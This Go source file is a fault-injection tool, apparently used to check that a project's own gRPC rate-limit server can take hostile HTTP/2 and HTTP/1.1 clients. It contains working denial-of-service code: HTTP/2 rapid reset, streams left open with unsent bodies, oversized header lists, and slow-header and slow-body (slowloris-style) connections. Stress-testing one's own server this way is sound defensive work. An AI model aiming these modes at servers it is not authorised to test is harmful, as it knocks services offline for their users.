// Command h2abuse opens HTTP/2 connections to a gRPC server and misuses
// them as a hostile client would, for scripts/faults.sh: it writes frames
// directly, so it can do what a well-behaved client never does. It prints
// one line of what it sent and what the server answered.
//
//	h2abuse -addr 127.0.0.1:8081 -mode reset -n 200000
//
// Modes:
//   - reset: on one connection, opens a call with a whole request and
//     resets it at once, n times (the "rapid reset" attack);
//   - declared: opens -streams calls on each of -conns connections, each
//     sending only a message prefix that declares 4 MiB;
//   - idle: opens -streams calls on each of -conns connections and sends
//     no request at all;
//   - unfinished: like declared, then sends -send bytes of each message,
//     never its end;
//   - headers: opens -streams calls on each of -conns connections, each
//     with a header list of -send bytes (a literal field, never indexed)
//     and no request.
//
// Two more modes speak HTTP/1.1 to an HTTP listener (-addr its address),
// one request on each of -conns connections, never finished:
//   - slowheader: a POST /json whose one header line runs to -send bytes;
//   - slowbody: a POST /json declaring a 1,000,000-byte body and sending
//     -send bytes of it.
//
// The connections stay open for -hold, then close. The server's answers
// are counted as they come: streams refused (RST_STREAM REFUSED_STREAM),
// calls failed with RESOURCE_EXHAUSTED, and connections the server closed;
// over HTTP/1.1, the status of each answer (answered=STATUS:COUNT,...).
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// path is the method every call asks for; the request body is an Envoy
// RateLimitRequest for domain "faults" with one entry roomy=a, encoded by
// hand so that the tool needs no generated code.
const path = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"

var request = func() []byte {
	entry := append([]byte{0x0a, 5}, "roomy"...)
	entry = append(append(entry, 0x12, 1), 'a')
	descr := append([]byte{0x0a, byte(len(entry))}, entry...)
	req := append([]byte{0x0a, 6}, "faults"...)
	return append(append(req, 0x12, byte(len(descr))), descr...)
}()

type counts struct {
	refused, exhausted, answered, closed atomic.Int64
}

func main() {
	addr := flag.String("addr", "127.0.0.1:8081", "the gRPC server's address")
	mode := flag.String("mode", "reset", "reset, declared, idle, unfinished, headers, slowheader or slowbody")
	n := flag.Int("n", 200000, "calls opened and reset (reset)")
	conns := flag.Int("conns", 8, "connections (declared, idle, unfinished)")
	streams := flag.Int("streams", 1000, "calls on each connection (declared, idle, unfinished)")
	send := flag.Int("send", 1<<20, "bytes of each message sent after its prefix (unfinished), or of each header list (headers)")
	hold := flag.Duration("hold", 3*time.Second, "how long the connections stay open once all is sent")
	flag.Parse()

	var c counts
	var wg sync.WaitGroup
	start := time.Now()
	var sent int64
	switch *mode {
	case "reset":
		fr, w, nc := dial(*addr, &c, &wg)
		for i := range *n {
			id := uint32(2*i + 1)
			openCall(fr, id)
			writeMessage(fr, id, request, true)
			try(func() error { return fr.WriteRSTStream(id, http2.ErrCodeCancel) })
			if i%1000 == 999 {
				try(w.Flush)
			}
		}
		try(w.Flush)
		sent = int64(*n)
		time.Sleep(*hold)
		nc.Close()
	case "declared", "idle", "unfinished", "headers":
		var open []net.Conn
		chunk := make([]byte, 16<<10)
		for range *conns {
			fr, w, nc := dial(*addr, &c, &wg)
			open = append(open, nc)
			for i := range *streams {
				id := uint32(2*i + 1)
				if *mode == "headers" {
					openCallWith(fr, id, *send)
					continue
				}
				openCall(fr, id)
				if *mode == "idle" {
					continue
				}
				try(func() error { return fr.WriteData(id, false, []byte{0, 0, 0x40, 0, 0}) }) // 4 MiB to come
				if *mode == "unfinished" {
					for left := *send; left > 0; left -= len(chunk) {
						try(func() error { return fr.WriteData(id, false, chunk[:min(left, len(chunk))]) })
					}
				}
			}
			try(w.Flush)
			sent += int64(*streams)
		}
		time.Sleep(*hold)
		for _, nc := range open {
			nc.Close()
		}
	case "slowheader", "slowbody":
		slowHTTP(*addr, *mode, *conns, *send, *hold)
		return
	default:
		fmt.Fprintf(os.Stderr, "h2abuse: unknown -mode %q\n", *mode)
		os.Exit(2)
	}
	wg.Wait()
	werr := "none"
	if writeErr != nil {
		werr = fmt.Sprintf("%q", writeErr.Error())
	}
	fmt.Printf("mode=%s calls=%d refused=%d resource_exhausted=%d answered=%d closed_by_server=%d write_error=%s seconds=%.1f\n",
		*mode, sent, c.refused.Load(), c.exhausted.Load(), c.answered.Load(), c.closed.Load(), werr, time.Since(start).Seconds())
}

// dial opens an h2c connection with a large window, so that the server
// never waits on the tool, and reads the server's frames into c until the
// connection ends.
func dial(addr string, c *counts, wg *sync.WaitGroup) (*http2.Framer, *bufio.Writer, net.Conn) {
	nc, err := net.Dial("tcp", addr)
	must(err)
	w := bufio.NewWriterSize(nc, 64<<10)
	_, err = w.WriteString(http2.ClientPreface)
	must(err)
	fr := http2.NewFramer(w, nil)
	must(fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}))
	must(fr.WriteWindowUpdate(0, 1<<30))
	must(w.Flush())
	wg.Add(1)
	go func() {
		defer wg.Done()
		read(nc, c)
	}()
	return fr, w, nc
}

// read counts the server's answers on nc until it closes; a close the tool
// did not make counts as closed by the server.
func read(nc net.Conn, c *counts) {
	fr := http2.NewFramer(io.Discard, bufio.NewReader(nc))
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.MaxHeaderListSize = 1 << 20
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			if !isLocalClose(err) {
				c.closed.Add(1)
			}
			return
		}
		switch f := f.(type) {
		case *http2.RSTStreamFrame:
			if f.ErrCode == http2.ErrCodeRefusedStream {
				c.refused.Add(1)
			}
		case *http2.MetaHeadersFrame:
			if !f.StreamEnded() {
				continue
			}
			switch grpcStatus(f) {
			case "0":
				c.answered.Add(1)
			case "8":
				c.exhausted.Add(1)
			}
		case *http2.GoAwayFrame:
			if f.ErrCode != http2.ErrCodeNo {
				c.closed.Add(1)
				return
			}
		}
	}
}

func grpcStatus(f *http2.MetaHeadersFrame) string {
	for _, hf := range f.Fields {
		if hf.Name == "grpc-status" {
			return hf.Value
		}
	}
	return ""
}

// isLocalClose reports whether err is the tool's own closing of the
// connection.
func isLocalClose(err error) bool { return errors.Is(err, net.ErrClosed) }

// openCall sends a call's HEADERS on stream id, without ending it.
func openCall(fr *http2.Framer, id uint32) { openCallWith(fr, id, 0) }

// openCallWith sends a call's HEADERS on stream id with a field of extra
// bytes more, sent literally, in frames of 16 KiB; it does not end the
// call.
func openCallWith(fr *http2.Framer, id uint32, extra int) {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "faults"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		must(enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}))
	}
	if extra > 0 {
		must(enc.WriteField(hpack.HeaderField{Name: "x-long", Value: strings.Repeat("v", extra), Sensitive: true}))
	}
	block := b.Bytes()
	const frame = 16 << 10
	first := block[:min(len(block), frame)]
	try(func() error {
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(first) == len(block)})
	})
	for rest := block[len(first):]; len(rest) > 0; {
		n := min(len(rest), frame)
		chunk := rest[:n]
		rest = rest[n:]
		try(func() error { return fr.WriteContinuation(id, len(rest) == 0, chunk) })
	}
}

// writeMessage sends msg with its gRPC prefix on stream id.
func writeMessage(fr *http2.Framer, id uint32, msg []byte, end bool) {
	b := make([]byte, 5+len(msg))
	binary.BigEndian.PutUint32(b[1:], uint32(len(msg)))
	copy(b[5:], msg)
	try(func() error { return fr.WriteData(id, end, b) })
}

// writeErr is the first write that failed: the server closed the
// connection under the tool. Later writes are skipped, and the summary
// names it.
var writeErr error

// must stops the tool on a set-up error (dialling, encoding).
func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "h2abuse:", err)
		os.Exit(1)
	}
}

// try runs a write unless one failed before, and keeps its error.
func try(write func() error) {
	if writeErr == nil {
		writeErr = write()
	}
}

// slowHTTP opens conns HTTP/1.1 connections to addr, each sending the
// start of one request that it never finishes (mode slowheader or
// slowbody, send bytes), holds them, and prints the statuses the server
// answered.
func slowHTTP(addr, mode string, conns, send int, hold time.Duration) {
	req := "POST /json HTTP/1.1\r\nHost: faults\r\nX-Long: " + strings.Repeat("v", send)
	if mode == "slowbody" {
		req = "POST /json HTTP/1.1\r\nHost: faults\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n" +
			strings.Repeat(" ", send)
	}
	start := time.Now()
	var (
		mu       sync.Mutex
		statuses = map[string]int{}
		wg       sync.WaitGroup
		open     []net.Conn
	)
	for range conns {
		nc, err := net.Dial("tcp", addr)
		if err != nil {
			writeErr = err
			break
		}
		open = append(open, nc)
		wg.Add(2)
		go func() {
			defer wg.Done()
			_, _ = nc.Write([]byte(req)) // the server may answer and close first
		}()
		go func() {
			defer wg.Done()
			line, err := bufio.NewReader(nc).ReadString('\n')
			if err != nil {
				return // closed by the tool, or without an answer
			}
			status := "?"
			if f := strings.Fields(line); len(f) > 1 {
				status = f[1]
			}
			mu.Lock()
			statuses[status]++
			mu.Unlock()
		}()
	}
	time.Sleep(hold)
	for _, nc := range open {
		nc.Close()
	}
	wg.Wait()
	var answered []string
	for status, n := range statuses {
		answered = append(answered, fmt.Sprintf("%s:%d", status, n))
	}
	slices.Sort(answered)
	werr := "none"
	if writeErr != nil {
		werr = fmt.Sprintf("%q", writeErr.Error())
	}
	fmt.Printf("mode=%s connections=%d answered=%s dial_error=%s seconds=%.1f\n",
		mode, len(open), strings.Join(answered, ","), werr, time.Since(start).Seconds())
}
